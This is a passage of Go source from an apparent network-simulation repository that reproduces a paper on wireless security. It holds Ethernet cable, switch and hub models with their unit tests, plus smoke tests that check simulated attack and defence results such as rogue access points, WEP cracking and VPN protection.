func (p *Port) xmit(f Frame, pb *pkt.Buf) {
	if p.peer == nil {
		pb.Release()
		return // unplugged
	}
	if len(f.Payload) > p.mtu {
		p.kernel.Tracef("ethernet", "drop oversize frame (%d > MTU %d)", len(f.Payload), p.mtu)
		pb.Release()
		return
	}
	if fp := p.faults; fp != nil && fp.RNG != nil {
		if fp.RNG.Bool(fp.DropP) {
			p.FaultDrops++
			pb.Release()
			return
		}
		if len(f.Payload) > 0 && fp.RNG.Bool(fp.CorruptP) {
			f.Payload[fp.RNG.Intn(len(f.Payload))] ^= 0xff
			p.FaultCorrupted++
		}
		if fp.RNG.Bool(fp.DupP) {
			p.FaultDuplicated++
			// Both duplicates share the buffer, as they share a payload slice
			// before the refactor.
			p.transmit(f, pb.Retain())
		}
	}
	p.transmit(f, pb)
}

// transmit is the fault-free wire path: serialise on the cable, deliver to
// the peer after airtime plus propagation.
//
//simvet:owner transfer pb rides the scheduled delivery closure to the peer's deliver
func (p *Port) transmit(f Frame, pb *pkt.Buf) {
	txTime := sim.Time(math.Round(float64(f.WireLen()*8) / p.bitsPerSec * float64(sim.Second)))
	start := p.kernel.Now()
	if p.busyUntil > start {
		start = p.busyUntil
	}
	end := start + txTime
	p.busyUntil = end
	p.TxFrames++
	p.TxBytes += uint64(f.WireLen())
	peer := p.peer
	p.kernel.Schedule(end+p.propDelay, func() { peer.deliver(f, pb) })
}

// deliver hands the frame to the receiver callback and retires the buffer.
//
//simvet:owner transfer releases pb once the receive callback (which may not keep views) returns
func (p *Port) deliver(f Frame, pb *pkt.Buf) {
	p.RxFrames++
	p.RxBytes += uint64(f.WireLen())
	if p.recv != nil && (p.promiscuous || f.Dst == p.mac || f.Dst.IsMulticast()) {
		p.kernel.MixDigest("eth/rx", f.Payload)
		// The payload is a transient view: it is valid only for the duration
		// of this callback. Receivers that keep bytes must copy.
		p.recv(f)
	}
	pb.Release()
}

var _ NIC = (*Port)(nil)
