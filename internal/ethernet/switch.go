package ethernet

import (
	"repro/internal/sim"
)

// Switch is a learning Ethernet switch. It remembers which port each source
// MAC was last seen on and forwards unicast frames only to the owning port,
// flooding unknown destinations and broadcast/multicast.
//
// This is the device that makes wired eavesdropping "not practical" in the
// paper's Section 1.1: a sniffer on one switch port sees almost none of the
// traffic between other ports.
type Switch struct {
	kernel   *sim.Kernel
	macAlloc *MACAllocator
	cfg      PortConfig
	ports    []*Port // switch-side port of each cable
	table    map[MAC]tableEntry
	aging    sim.Time

	// FloodedFrames counts frames sent out all ports (unknown dst or
	// broadcast); ForwardedFrames counts learned unicast forwards.
	FloodedFrames   uint64
	ForwardedFrames uint64
}

type tableEntry struct {
	port     int
	lastSeen sim.Time
}

// SwitchConfig configures a Switch.
type SwitchConfig struct {
	Port PortConfig
	// Aging is how long a learned MAC stays valid without traffic.
	// Zero means 5 minutes (a common default).
	Aging sim.Time
}

// NewSwitch creates an empty switch.
func NewSwitch(k *sim.Kernel, alloc *MACAllocator, cfg SwitchConfig) *Switch {
	if cfg.Aging == 0 {
		cfg.Aging = 5 * sim.Minute
	}
	cfg.Port.fill()
	return &Switch{
		kernel:   k,
		macAlloc: alloc,
		cfg:      cfg.Port,
		table:    make(map[MAC]tableEntry),
		aging:    cfg.Aging,
	}
}

// Attach adds a new cable to the switch and returns the host-side port.
func (s *Switch) Attach(hostMAC MAC) *Port {
	swPort, hostPort := NewCable(s.kernel, s.macAlloc.Next(), hostMAC, s.cfg)
	idx := len(s.ports)
	s.ports = append(s.ports, swPort)
	swPort.SetPromiscuous(true) // switches see every frame on their ports
	swPort.SetReceiver(func(f Frame) { s.onFrame(idx, f) })
	return hostPort
}

// Ports reports how many cables are attached.
func (s *Switch) Ports() int { return len(s.ports) }

func (s *Switch) onFrame(in int, f Frame) {
	now := s.kernel.Now()
	// Learn the source, unless it is multicast (invalid as a source).
	if !f.Src.IsMulticast() {
		s.table[f.Src] = tableEntry{port: in, lastSeen: now}
	}
	if !f.Dst.IsMulticast() {
		if e, ok := s.table[f.Dst]; ok && now-e.lastSeen <= s.aging {
			if e.port != in {
				s.ForwardedFrames++
				s.ports[e.port].Transmit(f)
			}
			return
		}
	}
	// Flood.
	s.FloodedFrames++
	for i, p := range s.ports {
		if i != in {
			p.Transmit(f)
		}
	}
}

// LookupPort reports which port a MAC was learned on, for tests and the
// wired-side rogue detector.
func (s *Switch) LookupPort(m MAC) (int, bool) {
	e, ok := s.table[m]
	if !ok || s.kernel.Now()-e.lastSeen > s.aging {
		return 0, false
	}
	return e.port, true
}

// Hub is a dumb repeater: every frame goes out every other port. Included as
// the wired worst case for the E8 eavesdropping comparison.
type Hub struct {
	kernel   *sim.Kernel
	macAlloc *MACAllocator
	cfg      PortConfig
	ports    []*Port
}

// NewHub creates an empty hub.
func NewHub(k *sim.Kernel, alloc *MACAllocator, cfg PortConfig) *Hub {
	cfg.fill()
	return &Hub{kernel: k, macAlloc: alloc, cfg: cfg}
}

// Attach adds a new cable to the hub and returns the host-side port.
func (h *Hub) Attach(hostMAC MAC) *Port {
	hubPort, hostPort := NewCable(h.kernel, h.macAlloc.Next(), hostMAC, h.cfg)
	idx := len(h.ports)
	h.ports = append(h.ports, hubPort)
	hubPort.SetPromiscuous(true)
	hubPort.SetReceiver(func(f Frame) {
		for i, p := range h.ports {
			if i != idx {
				p.Transmit(f)
			}
		}
	})
	return hostPort
}
