// Package ethernet models the wired side of the paper's topologies: Ethernet
// II framing, point-to-point cables with bandwidth and propagation delay, a
// learning switch, and a hub.
//
// The switch matters to the reproduction: Section 1.1 of the paper argues
// that wired eavesdropping is impractical precisely because switched networks
// deliver unicast traffic only to the owning port, while wireless is a
// broadcast medium. Experiment E8 measures that asymmetry with this switch
// against the phy package's radio medium.
package ethernet

import (
	"fmt"

	"repro/internal/pkt"
)

// MAC is a 48-bit IEEE 802 hardware address, used by both wired Ethernet and
// the 802.11 MAC layer (which shares the same address space).
type MAC [6]byte

// BroadcastMAC is ff:ff:ff:ff:ff:ff.
var BroadcastMAC = MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// String formats the address in colon-hex.
func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}

// IsBroadcast reports whether m is the broadcast address.
func (m MAC) IsBroadcast() bool { return m == BroadcastMAC }

// IsMulticast reports whether the group bit is set (includes broadcast).
func (m MAC) IsMulticast() bool { return m[0]&1 == 1 }

// MustParseMAC parses colon-hex notation, panicking on error.
func MustParseMAC(s string) MAC {
	m, err := ParseMAC(s)
	if err != nil {
		panic(err)
	}
	return m
}

// ParseMAC parses colon-hex notation ("aa:bb:cc:dd:ee:ff").
func ParseMAC(s string) (MAC, error) {
	var m MAC
	if len(s) != 17 {
		return m, fmt.Errorf("ethernet: bad MAC %q", s)
	}
	for i := 0; i < 6; i++ {
		hi, ok1 := unhex(s[i*3])
		lo, ok2 := unhex(s[i*3+1])
		if !ok1 || !ok2 {
			return m, fmt.Errorf("ethernet: bad MAC %q", s)
		}
		m[i] = hi<<4 | lo
		if i < 5 && s[i*3+2] != ':' {
			return m, fmt.Errorf("ethernet: bad MAC %q", s)
		}
	}
	return m, nil
}

func unhex(c byte) (byte, bool) {
	switch {
	case '0' <= c && c <= '9':
		return c - '0', true
	case 'a' <= c && c <= 'f':
		return c - 'a' + 10, true
	case 'A' <= c && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}

// MACAllocator hands out locally administered unicast MACs deterministically.
type MACAllocator struct{ next uint32 }

// Next returns a fresh MAC with the locally-administered bit set.
func (a *MACAllocator) Next() MAC {
	a.next++
	v := a.next
	return MAC{0x02, 0x00, 0x00, byte(v >> 16), byte(v >> 8), byte(v)}
}

// EtherType identifies the payload protocol of a frame.
type EtherType uint16

// EtherTypes used in this repository.
const (
	TypeIPv4 EtherType = 0x0800
	TypeARP  EtherType = 0x0806
)

// String names well-known EtherTypes.
func (t EtherType) String() string {
	switch t {
	case TypeIPv4:
		return "IPv4"
	case TypeARP:
		return "ARP"
	default:
		return fmt.Sprintf("0x%04x", uint16(t))
	}
}

// Frame is an Ethernet II frame. Payloads are referenced, not copied; senders
// must not mutate a payload after handing it to the link layer.
type Frame struct {
	Dst     MAC
	Src     MAC
	Type    EtherType
	Payload []byte
}

// HeaderLen is the Ethernet II header size in bytes.
const HeaderLen = 14

// WireLen reports the frame's size on the wire (header + payload, ignoring
// FCS and padding, which the simulation does not model).
func (f *Frame) WireLen() int { return HeaderLen + len(f.Payload) }

// Marshal serialises the frame into an exactly-sized slice (tests assert
// zero spare capacity).
func (f *Frame) Marshal() []byte {
	b := make([]byte, HeaderLen+len(f.Payload))
	copy(b[0:6], f.Dst[:])
	copy(b[6:12], f.Src[:])
	b[12] = byte(f.Type >> 8)
	b[13] = byte(f.Type)
	copy(b[14:], f.Payload)
	return b
}

// Unmarshal parses a serialised frame. The payload aliases b.
func Unmarshal(b []byte) (Frame, error) {
	if len(b) < HeaderLen {
		return Frame{}, fmt.Errorf("ethernet: short frame (%d bytes)", len(b))
	}
	var f Frame
	copy(f.Dst[:], b[0:6])
	copy(f.Src[:], b[6:12])
	f.Type = EtherType(uint16(b[12])<<8 | uint16(b[13]))
	f.Payload = b[14:]
	return f, nil
}

// Receiver consumes frames arriving at a port or NIC.
type Receiver func(f Frame)

// NIC is the link-layer service interface presented to the network layer by
// any L2 attachment — a wired port, a WiFi station, or an AP's distribution
// side. Send queues a frame for transmission; delivery is asynchronous in
// virtual time.
type NIC interface {
	// HWAddr reports the interface's MAC address.
	HWAddr() MAC
	// MTU reports the maximum payload size.
	MTU() int
	// Send transmits payload to dst with the given EtherType. The payload is
	// copied (or otherwise kept alive) by the NIC; convenient for cold paths
	// and tests.
	Send(dst MAC, t EtherType, payload []byte)
	// SendBuf transmits an owned packet buffer to dst with the given
	// EtherType, taking ownership of pb: the NIC (and the layers below it)
	// release it when the frame leaves the system, on every path. This is
	// the zero-copy spine — lower layers push their headers into pb's
	// headroom instead of re-marshalling.
	SendBuf(dst MAC, t EtherType, pb *pkt.Buf)
	// SetReceiver installs the upper-layer frame handler. Frames addressed
	// to this NIC (or broadcast/multicast) are delivered; NICs are not
	// promiscuous unless documented otherwise.
	SetReceiver(r Receiver)
}

// DefaultMTU is the classic Ethernet payload MTU.
const DefaultMTU = 1500
