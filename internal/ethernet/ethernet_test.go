package ethernet

import (
	"testing"
	"testing/quick"

	"repro/internal/sim"
)

func TestParseMAC(t *testing.T) {
	m := MustParseMAC("aa:bb:cc:dd:ee:ff")
	want := MAC{0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff}
	if m != want {
		t.Fatalf("parsed %v", m)
	}
	if m.String() != "aa:bb:cc:dd:ee:ff" {
		t.Fatalf("String = %q", m.String())
	}
	if _, err := ParseMAC("AA:BB:CC:DD:EE:0F"); err != nil {
		t.Fatal("uppercase rejected")
	}
}

func TestParseMACInvalid(t *testing.T) {
	for _, s := range []string{"", "aa:bb:cc:dd:ee", "aa:bb:cc:dd:ee:ff:00", "zz:bb:cc:dd:ee:ff", "aabbccddeeff", "aa-bb-cc-dd-ee-ff"} {
		if _, err := ParseMAC(s); err == nil {
			t.Errorf("ParseMAC(%q) succeeded", s)
		}
	}
}

func TestMACPredicates(t *testing.T) {
	if !BroadcastMAC.IsBroadcast() || !BroadcastMAC.IsMulticast() {
		t.Error("broadcast flags")
	}
	if MustParseMAC("02:00:00:00:00:01").IsMulticast() {
		t.Error("unicast flagged multicast")
	}
	if !MustParseMAC("01:00:5e:00:00:01").IsMulticast() {
		t.Error("multicast not flagged")
	}
}

func TestMACAllocatorUnique(t *testing.T) {
	var a MACAllocator
	seen := make(map[MAC]bool)
	for i := 0; i < 1000; i++ {
		m := a.Next()
		if seen[m] {
			t.Fatalf("duplicate MAC %v", m)
		}
		if m.IsMulticast() {
			t.Fatalf("allocator produced multicast MAC %v", m)
		}
		seen[m] = true
	}
}

// TestMarshalExactCapacity pins the documented allocation contract: Marshal
// returns an exactly-sized slice with no spare capacity, so repeated appends
// by a caller cannot silently grow into (and alias) adjacent frames.
func TestMarshalExactCapacity(t *testing.T) {
	f := Frame{
		Dst: MustParseMAC("02:00:00:00:00:01"), Src: MustParseMAC("02:00:00:00:00:02"),
		Type: TypeIPv4, Payload: []byte("payload"),
	}
	b := f.Marshal()
	if cap(b) != len(b) {
		t.Fatalf("Frame.Marshal: cap %d != len %d (spare capacity)", cap(b), len(b))
	}
}

func TestFrameMarshalRoundTrip(t *testing.T) {
	f := Frame{
		Dst:     MustParseMAC("aa:bb:cc:dd:ee:ff"),
		Src:     MustParseMAC("02:00:00:00:00:01"),
		Type:    TypeIPv4,
		Payload: []byte("hello"),
	}
	b := f.Marshal()
	if len(b) != f.WireLen() {
		t.Fatalf("marshal len %d, WireLen %d", len(b), f.WireLen())
	}
	g, err := Unmarshal(b)
	if err != nil {
		t.Fatal(err)
	}
	if g.Dst != f.Dst || g.Src != f.Src || g.Type != f.Type || string(g.Payload) != "hello" {
		t.Fatalf("round trip mismatch: %+v", g)
	}
}

func TestUnmarshalShortFrame(t *testing.T) {
	if _, err := Unmarshal(make([]byte, 13)); err == nil {
		t.Fatal("short frame accepted")
	}
}

func TestQuickFrameRoundTrip(t *testing.T) {
	f := func(dst, src [6]byte, typ uint16, payload []byte) bool {
		fr := Frame{Dst: MAC(dst), Src: MAC(src), Type: EtherType(typ), Payload: payload}
		g, err := Unmarshal(fr.Marshal())
		if err != nil {
			return false
		}
		if g.Dst != fr.Dst || g.Src != fr.Src || g.Type != fr.Type || len(g.Payload) != len(payload) {
			return false
		}
		for i := range payload {
			if g.Payload[i] != payload[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestEtherTypeString(t *testing.T) {
	if TypeIPv4.String() != "IPv4" || TypeARP.String() != "ARP" {
		t.Error("well-known names")
	}
	if EtherType(0x1234).String() != "0x1234" {
		t.Errorf("unknown = %q", EtherType(0x1234).String())
	}
}

func testPair(t *testing.T) (*sim.Kernel, *Port, *Port) {
	t.Helper()
	k := sim.NewKernel(1)
	a, b := NewCable(k, MustParseMAC("02:00:00:00:00:01"), MustParseMAC("02:00:00:00:00:02"), PortConfig{})
	return k, a, b
}

func TestCableDelivers(t *testing.T) {
	k, a, b := testPair(t)
	var got []byte
	b.SetReceiver(func(f Frame) { got = append([]byte{}, f.Payload...) })
	a.Send(b.HWAddr(), TypeIPv4, []byte("ping"))
	k.Run()
	if string(got) != "ping" {
		t.Fatalf("got %q", got)
	}
	if a.TxFrames != 1 || b.RxFrames != 1 {
		t.Fatalf("counters tx=%d rx=%d", a.TxFrames, b.RxFrames)
	}
}

func TestCableFiltersForeignUnicast(t *testing.T) {
	k, a, b := testPair(t)
	delivered := false
	b.SetReceiver(func(f Frame) { delivered = true })
	a.Send(MustParseMAC("02:00:00:00:00:99"), TypeIPv4, []byte("x"))
	k.Run()
	if delivered {
		t.Fatal("foreign unicast delivered without promiscuous mode")
	}
}

func TestCablePromiscuousSeesAll(t *testing.T) {
	k, a, b := testPair(t)
	delivered := false
	b.SetPromiscuous(true)
	b.SetReceiver(func(f Frame) { delivered = true })
	a.Send(MustParseMAC("02:00:00:00:00:99"), TypeIPv4, []byte("x"))
	k.Run()
	if !delivered {
		t.Fatal("promiscuous port missed frame")
	}
}

func TestCableBroadcastDelivered(t *testing.T) {
	k, a, b := testPair(t)
	delivered := false
	b.SetReceiver(func(f Frame) { delivered = true })
	a.Send(BroadcastMAC, TypeARP, []byte("x"))
	k.Run()
	if !delivered {
		t.Fatal("broadcast not delivered")
	}
}

func TestCableSerialisationDelay(t *testing.T) {
	k := sim.NewKernel(1)
	// 8 Mb/s: a 1000-byte payload (1014B frame) takes 1014 µs + 1 µs prop.
	a, b := NewCable(k, MustParseMAC("02:00:00:00:00:01"), MustParseMAC("02:00:00:00:00:02"),
		PortConfig{BitsPerSec: 8e6})
	var at sim.Time
	b.SetReceiver(func(f Frame) { at = k.Now() })
	a.Send(b.HWAddr(), TypeIPv4, make([]byte, 1000))
	k.Run()
	want := sim.Time(1014)*sim.Microsecond + sim.Microsecond
	if at != want {
		t.Fatalf("delivered at %v, want %v", at, want)
	}
}

func TestCableBackToBackFramesSerialise(t *testing.T) {
	k := sim.NewKernel(1)
	a, b := NewCable(k, MustParseMAC("02:00:00:00:00:01"), MustParseMAC("02:00:00:00:00:02"),
		PortConfig{BitsPerSec: 8e6})
	var times []sim.Time
	b.SetReceiver(func(f Frame) { times = append(times, k.Now()) })
	a.Send(b.HWAddr(), TypeIPv4, make([]byte, 986)) // 1000B frame = 1ms at 8Mb/s
	a.Send(b.HWAddr(), TypeIPv4, make([]byte, 986))
	k.Run()
	if len(times) != 2 {
		t.Fatalf("delivered %d frames", len(times))
	}
	if gap := times[1] - times[0]; gap != sim.Millisecond {
		t.Fatalf("inter-frame gap %v, want 1ms (serialisation)", gap)
	}
}

func TestCableDropsOversize(t *testing.T) {
	k, a, b := testPair(t)
	delivered := false
	b.SetReceiver(func(f Frame) { delivered = true })
	a.Send(b.HWAddr(), TypeIPv4, make([]byte, DefaultMTU+1))
	k.Run()
	if delivered {
		t.Fatal("oversize frame delivered")
	}
}

func TestSwitchLearnsAndForwards(t *testing.T) {
	k := sim.NewKernel(1)
	var alloc MACAllocator
	sw := NewSwitch(k, &alloc, SwitchConfig{})
	macA, macB, macC := alloc.Next(), alloc.Next(), alloc.Next()
	pa := sw.Attach(macA)
	pb := sw.Attach(macB)
	pc := sw.Attach(macC)

	rx := map[string]int{}
	pa.SetReceiver(func(f Frame) { rx["a"]++ })
	pb.SetReceiver(func(f Frame) { rx["b"]++ })
	pc.SetReceiver(func(f Frame) { rx["c"]++ })

	// First frame to an unknown MAC floods; after B replies, traffic to B
	// goes only to B's port.
	pa.Send(macB, TypeIPv4, []byte("1"))
	k.Run()
	if rx["b"] != 1 || rx["c"] != 0 {
		// unknown dst floods, but C filters foreign unicast at its NIC;
		// check the switch actually flooded by flipping C promiscuous.
		t.Fatalf("after flood: rx=%v", rx)
	}
	pb.Send(macA, TypeIPv4, []byte("2"))
	k.Run()
	pa.Send(macB, TypeIPv4, []byte("3"))
	k.Run()
	if rx["b"] != 2 {
		t.Fatalf("B did not receive learned unicast: rx=%v", rx)
	}
	if port, ok := sw.LookupPort(macB); !ok || port != 1 {
		t.Fatalf("LookupPort(B) = %d, %v", port, ok)
	}
	if sw.ForwardedFrames == 0 {
		t.Fatal("no learned forwards counted")
	}
}

func TestSwitchUnicastIsolation(t *testing.T) {
	// The paper's Section 1.1 claim: a sniffer on a switch port cannot see
	// other hosts' unicast traffic once the switch has learned addresses.
	k := sim.NewKernel(1)
	var alloc MACAllocator
	sw := NewSwitch(k, &alloc, SwitchConfig{})
	macA, macB, macSniffer := alloc.Next(), alloc.Next(), alloc.Next()
	pa := sw.Attach(macA)
	pb := sw.Attach(macB)
	sniffer := sw.Attach(macSniffer)
	sniffer.SetPromiscuous(true)

	sniffed := 0
	sniffer.SetReceiver(func(f Frame) {
		if f.Type == TypeIPv4 {
			sniffed++
		}
	})
	pb.SetReceiver(func(f Frame) {})

	// Prime the table in both directions.
	pa.Send(macB, TypeIPv4, []byte("x"))
	pb.Send(macA, TypeIPv4, []byte("x"))
	k.Run()
	sniffed = 0
	for i := 0; i < 100; i++ {
		pa.Send(macB, TypeIPv4, []byte("secret"))
	}
	k.Run()
	if sniffed != 0 {
		t.Fatalf("sniffer saw %d/100 learned unicast frames", sniffed)
	}
}

func TestSwitchBroadcastFloods(t *testing.T) {
	k := sim.NewKernel(1)
	var alloc MACAllocator
	sw := NewSwitch(k, &alloc, SwitchConfig{})
	ports := make([]*Port, 4)
	rx := make([]int, 4)
	for i := range ports {
		i := i
		ports[i] = sw.Attach(alloc.Next())
		ports[i].SetReceiver(func(f Frame) { rx[i]++ })
	}
	ports[0].Send(BroadcastMAC, TypeARP, []byte("who-has"))
	k.Run()
	if rx[0] != 0 || rx[1] != 1 || rx[2] != 1 || rx[3] != 1 {
		t.Fatalf("broadcast rx = %v", rx)
	}
}

func TestSwitchAging(t *testing.T) {
	k := sim.NewKernel(1)
	var alloc MACAllocator
	sw := NewSwitch(k, &alloc, SwitchConfig{Aging: sim.Second})
	macA, macB := alloc.Next(), alloc.Next()
	pa := sw.Attach(macA)
	sw.Attach(macB)
	pa.Send(macB, TypeIPv4, []byte("x"))
	k.Run()
	if _, ok := sw.LookupPort(macA); !ok {
		t.Fatal("A not learned")
	}
	k.RunUntil(k.Now() + 2*sim.Second)
	if _, ok := sw.LookupPort(macA); ok {
		t.Fatal("A not aged out")
	}
}

func TestHubRepeatsToAll(t *testing.T) {
	k := sim.NewKernel(1)
	var alloc MACAllocator
	hub := NewHub(k, &alloc, PortConfig{})
	macA, macB := alloc.Next(), alloc.Next()
	pa := hub.Attach(macA)
	pb := hub.Attach(macB)
	sniffer := hub.Attach(alloc.Next())
	sniffer.SetPromiscuous(true)
	pb.SetReceiver(func(f Frame) {})
	sniffed := 0
	sniffer.SetReceiver(func(f Frame) { sniffed++ })
	pa.Send(macB, TypeIPv4, []byte("secret"))
	k.Run()
	if sniffed != 1 {
		t.Fatalf("hub sniffer saw %d frames, want 1", sniffed)
	}
}
