package experiments

import (
	"runtime"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/sim"
)

// tiny is the smallest meaningful scale for CI-speed smoke tests.
var tiny = Scale{Trials: 2, Quick: true}

func mustCell(t *testing.T, tbl Table, row, col int) string {
	t.Helper()
	if row >= len(tbl.Rows) || col >= len(tbl.Rows[row]) {
		t.Fatalf("%s: no cell (%d,%d) in %v", tbl.ID, row, col, tbl.Rows)
	}
	return tbl.Rows[row][col]
}

func TestTableRendering(t *testing.T) {
	tbl := Table{ID: "X", Title: "demo", Columns: []string{"a", "bb"}}
	tbl.AddRow("1", 2.0)
	tbl.AddRow("longer", "cells")
	out := tbl.String()
	if !strings.Contains(out, "== X: demo ==") || !strings.Contains(out, "longer") {
		t.Fatalf("rendered:\n%s", out)
	}
}

func TestE1Shape(t *testing.T) {
	tbl := E1AssociationCapture(tiny)
	if len(tbl.Rows) != 6 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// Closest rogue (2 m, huge advantage): passive capture must be 100%.
	if got := mustCell(t, tbl, 0, 2); got != "100%" {
		t.Fatalf("close-rogue passive capture = %q", got)
	}
	// Far rogue (80 m, negative advantage): passive capture must be 0%.
	if got := mustCell(t, tbl, 5, 2); got != "0%" {
		t.Fatalf("far-rogue passive capture = %q", got)
	}
}

func TestE2Shape(t *testing.T) {
	tbl := E2DownloadMITM(tiny)
	if len(tbl.Rows) != 3 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for i := range tbl.Rows {
		if got := mustCell(t, tbl, i, 1); got != "100%" {
			t.Fatalf("row %d (%s): compromised = %q, want 100%%", i, tbl.Rows[i][0], got)
		}
	}
}

func TestE2bShape(t *testing.T) {
	tbl := E2bBoundary(tiny)
	sawMiss, sawStreamAlwaysYes := false, true
	for _, r := range tbl.Rows {
		if r[1] == "MISSED" {
			sawMiss = true
		}
		if r[2] != "yes" {
			sawStreamAlwaysYes = false
		}
	}
	if !sawMiss {
		t.Fatalf("chunk mode never missed a straddling pattern:\n%s", tbl.String())
	}
	if !sawStreamAlwaysYes {
		t.Fatalf("streaming mode missed a pattern:\n%s", tbl.String())
	}
}

func TestE3Shape(t *testing.T) {
	tbl := E3VPNDefense(tiny)
	// no VPN: compromised; full VPN: clean; tampered tunnel: clean AND
	// detected; split: compromised.
	if mustCell(t, tbl, 0, 1) != "100%" {
		t.Fatalf("no-VPN compromised = %q", mustCell(t, tbl, 0, 1))
	}
	if mustCell(t, tbl, 1, 1) != "0%" || mustCell(t, tbl, 1, 2) != "100%" {
		t.Fatalf("full-VPN row wrong: %v", tbl.Rows[1])
	}
	if mustCell(t, tbl, 2, 1) != "0%" {
		t.Fatalf("tampered-tunnel compromised = %q", mustCell(t, tbl, 2, 1))
	}
	if mustCell(t, tbl, 2, 3) == "0" {
		t.Fatalf("tampering not detected: %v", tbl.Rows[2])
	}
	if mustCell(t, tbl, 3, 1) != "100%" {
		t.Fatalf("split-tunnel compromised = %q", mustCell(t, tbl, 3, 1))
	}
}

func TestE4Shape(t *testing.T) {
	tbl := E4FMSCrack(tiny)
	if mustCell(t, tbl, 0, 4) != "yes" {
		t.Fatalf("40-bit key not recovered:\n%s", tbl.String())
	}
	last := tbl.Rows[len(tbl.Rows)-1]
	if last[4] != "MISSED" {
		t.Fatalf("weak-avoiding ablation recovered a key?! %v", last)
	}
}

func TestE5Shape(t *testing.T) {
	tbl := E5MACFilterBypass(tiny)
	if mustCell(t, tbl, 0, 1) != "0%" {
		t.Fatalf("unlisted MAC associated: %v", tbl.Rows)
	}
	if mustCell(t, tbl, 1, 1) != "100%" {
		t.Fatalf("cloned MAC rejected: %v", tbl.Rows)
	}
}

func TestE7Shape(t *testing.T) {
	tbl := E7Detection(tiny)
	if len(tbl.Rows) != 3 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// Cloned-BSSID rogue must be detected.
	if mustCell(t, tbl, 0, 2) == "0%" {
		t.Fatalf("cloned rogue undetected:\n%s", tbl.String())
	}
}

func TestE8Shape(t *testing.T) {
	tbl := E8Eavesdrop(tiny)
	if len(tbl.Rows) != 4 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// Open cell: wireless recovers the file, switched wire captures nothing.
	if mustCell(t, tbl, 0, 2) != "yes" {
		t.Fatalf("wireless sniffer could not recover the file: %v", tbl.Rows[0])
	}
	if mustCell(t, tbl, 1, 1) != "0 / 0" || mustCell(t, tbl, 1, 2) == "yes" {
		t.Fatalf("switched wired sniffer saw traffic: %v", tbl.Rows[1])
	}
	// WEP cell: opaque without the key, transparent with it.
	if mustCell(t, tbl, 2, 2) == "yes" {
		t.Fatalf("WEP capture readable without the key: %v", tbl.Rows[2])
	}
	if mustCell(t, tbl, 3, 2) != "yes" {
		t.Fatalf("WEP capture not readable with the key: %v", tbl.Rows[3])
	}
}

func TestE9Shape(t *testing.T) {
	tbl := E9Overhead(tiny)
	if len(tbl.Rows) != 4 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for _, r := range tbl.Rows {
		if r[1] == "failed" {
			t.Fatalf("scenario %q failed:\n%s", r[0], tbl.String())
		}
	}
}

func TestE2cShape(t *testing.T) {
	tbl := E2cContentInjection(tiny)
	if len(tbl.Rows) != 2 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// No VPN: page loads, script injected, rest of the page untouched.
	if mustCell(t, tbl, 0, 1) != "100%" || mustCell(t, tbl, 0, 2) != "100%" || mustCell(t, tbl, 0, 3) != "100%" {
		t.Fatalf("no-VPN row: %v", tbl.Rows[0])
	}
	// Full VPN: loads, NO injection.
	if mustCell(t, tbl, 1, 1) != "100%" || mustCell(t, tbl, 1, 2) != "0%" {
		t.Fatalf("VPN row: %v", tbl.Rows[1])
	}
}

func TestE2dShape(t *testing.T) {
	tbl := E2dHostileHotspot(tiny)
	if len(tbl.Rows) != 3 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	if mustCell(t, tbl, 0, 1) != "100%" || mustCell(t, tbl, 0, 2) != "0%" {
		t.Fatalf("honest hotspot row: %v", tbl.Rows[0])
	}
	if mustCell(t, tbl, 1, 2) != "100%" {
		t.Fatalf("hostile hotspot did not compromise: %v", tbl.Rows[1])
	}
	if mustCell(t, tbl, 2, 1) != "100%" || mustCell(t, tbl, 2, 2) != "0%" {
		t.Fatalf("VPN row: %v", tbl.Rows[2])
	}
}

func TestE10Shape(t *testing.T) {
	tbl := E10DeauthStorm(tiny)
	if len(tbl.Rows) != 4 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// No rogue: the client always recovers from the storm onto the real AP.
	if mustCell(t, tbl, 1, 2) != "100%" || mustCell(t, tbl, 1, 3) != "0%" {
		t.Fatalf("no-rogue storm row: %v", tbl.Rows[1])
	}
	// Rogue present: the client ends up associated either way.
	if mustCell(t, tbl, 3, 2) != "100%" {
		t.Fatalf("rogue storm row: %v", tbl.Rows[3])
	}
}

func TestE11Shape(t *testing.T) {
	tbl := E11APOutage(tiny)
	if len(tbl.Rows) != 4 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for i, r := range tbl.Rows {
		if r[2] != "100%" {
			t.Fatalf("row %d: tunnel not up at end: %v", i, r)
		}
	}
	// The long outages (rows 1, 3) must actually exercise DPD: at least one
	// peer timeout and one rekey on average.
	for _, i := range []int{1, 3} {
		if mustCell(t, tbl, i, 4) == "0.0" || mustCell(t, tbl, i, 5) == "0.0" {
			t.Fatalf("long-outage row %d saw no DPD/rekey: %v", i, tbl.Rows[i])
		}
	}
	// The short UDP outage (row 2) must not trip DPD. (The TCP carrier's
	// reassociation delay can push a short outage past the budget on some
	// seeds, so row 0 is not pinned.)
	if mustCell(t, tbl, 2, 5) != "0.0" {
		t.Fatalf("short-outage UDP row tripped DPD: %v", tbl.Rows[2])
	}
}

func TestE12Shape(t *testing.T) {
	tbl := E12BurstLoss(tiny)
	if len(tbl.Rows) != 3 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for i, r := range tbl.Rows {
		if r[1] != "100%" || r[2] != "100%" {
			t.Fatalf("row %d: download did not complete cleanly: %v", i, r)
		}
	}
}

func TestE13Shape(t *testing.T) {
	tbl := E13FirstHopRogue(tiny)
	if len(tbl.Rows) != 2 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	// Both configurations download clean — the mesh survives its traitor.
	for i := range tbl.Rows {
